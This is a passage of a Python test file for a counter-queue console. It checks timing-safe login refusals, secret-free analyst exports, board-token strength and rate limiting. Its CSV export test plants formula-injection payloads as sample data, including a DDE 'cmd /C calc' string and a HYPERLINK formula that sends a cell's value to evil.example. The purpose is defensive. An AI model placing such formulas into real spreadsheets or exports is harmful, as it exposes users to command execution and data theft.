    small_hall: LocalHall, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Refusals take as long whether the staff number exists or not: each is one slow
    hash check, so timing does not list the staff numbers."""
    from argon2 import PasswordHasher

    from console.domain.errors import AuthError
    from console.engine import pins

    checks: list[str] = []

    class Counting(PasswordHasher):
        def verify(self, hash: str | bytes, password: str | bytes) -> bool:
            checks.append(str(password))
            return super().verify(hash, password)

    monkeypatch.setattr(pins, "_hasher", Counting(time_cost=1, memory_cost=64, parallelism=1))
    messages = []
    for staff_no in ("4040", "1001"):
        with pytest.raises(AuthError) as refused:
            small_hall.login(staff_no, "9999", "desk-1")
        messages.append(refused.value.message)
    assert checks == ["9999", "9999"]
    assert messages[0] == messages[1]


def test_csv_for_excel_turns_no_free_text_into_a_formula(small_hall: LocalHall,
                                                         tmp_path: Path) -> None:  # fmt: skip
    from console.domain import Actor

    small_hall.add_clerk(ADMIN, staff_no="1004", name="-2+3", pin="1234")
    me = Actor(staff_no="1004", role="clerk", station="desk-1")
    small_hall.open_counter(me, 1)
    small_hall.issue(me, "ID", green_reason="elderly", green_note="@SUM(1+1)*cmd|' /C calc'!A0")
    small_hall.call_next(me, 1)
    small_hall.finish(me, 1, note='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    code = small_hall.engine.conn.execute("SELECT public_code FROM tickets").fetchone()[0]
    small_hall.engine.rate_by_code(code, 1, "+1 cmd|' /C calc'!A0")
    files = {}
    for excel in (True, False):
        out = tmp_path / f"tickets-{excel}.csv"
        done = subprocess.run(
            [sys.executable, "-c", "from console.cli.main import run; run()", "export", "--db",
             str(small_hall.engine.path), "--what", "tickets", "--from", "2000-01-01", "--to",
             "2100-01-01", "--format", "csv", "--personal", "--quiet", "--out", str(out),
             *(["--excel"] if excel else [])],
            cwd=Path(__file__).resolve().parents[2], capture_output=True, text=True,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        files[excel] = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    for_excel, exact = files[True], files[False]
    for column in ("note", "green_note", "feedback", "clerk_name"):
        assert for_excel[column] == "'" + exact[column], column
        assert exact[column][0] in "=+-@", column  # without --excel the text is as typed
    leads = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for c, v in for_excel.items() if v.startswith(leads)]


def test_the_analysts_copy_holds_no_secret_whatever_its_name(srv: Server, tmp_path: Path) -> None:
    conn = sqlite3.connect(srv.db)
    secrets = [r[0] for q in ("SELECT pin_hash FROM clerks", "SELECT token_hash FROM stations",
                              "SELECT token_hash FROM server_sessions",
                              "SELECT public_code FROM tickets WHERE public_code IS NOT NULL")
               for r in conn.execute(q)]  # fmt: skip
    tickets = conn.execute("SELECT count(*) FROM tickets").fetchone()[0]
    conn.close()
    assert len(secrets) > 10 and tickets > 0
    out = tmp_path / "whatever-name.db"
    done = subprocess.run(
        [sys.executable, "-c", "from console.cli.main import run; run()", "export", "--db",
         str(srv.db), "--analysis", "--out", str(out), "--json"],
        cwd=Path(__file__).resolve().parents[2], capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["tickets"] == tickets
    assert sorted(p.name for p in tmp_path.iterdir()) == ["whatever-name.db"]  # one file
    raw = out.read_bytes().decode("latin-1")
    assert not [s for s in secrets if s in raw]
    copy = sqlite3.connect(out)
    try:
        assert copy.execute("SELECT count(*) FROM tickets").fetchone()[0] == tickets
        assert copy.execute("SELECT count(*) FROM clerks WHERE pin_hash != ''").fetchone() == (0,)
        assert copy.execute("SELECT count(*) FROM server_sessions").fetchone() == (0,)
    finally:
        copy.close()


def test_a_board_token_is_long_and_guessing_it_is_slow(srv: Server) -> None:
    """Last here: the guesses spend this address's allowance of the public pages."""
    token = "Kq3vX9-tB7mZp2Lw8sY4nA"
    with client(srv, "admin-pc") as http:
        for weak in ("x", "tv-secret-1", "a" * 30):
            r = http.put("/api/v1/settings/board_token", json={"value": weak}, headers=key())
            assert r.status_code == 422 and "at least 16" in r.json()["message"], r.text
        r = http.put("/api/v1/settings/board_token", json={"value": token}, headers=key())
        assert r.status_code == 200, r.text
        try:
            assert httpx.get(f"{srv.url}/board/state?token={token}").status_code == 200
            guesses = [httpx.get(f"{srv.url}/board/state?token=guess{i:017d}").status_code
                       for i in range(20)]  # fmt: skip
            assert guesses[0] == 403 and 429 in guesses[:13], guesses
        finally:
            http.put("/api/v1/settings/board_token", json={"value": ""}, headers=key())
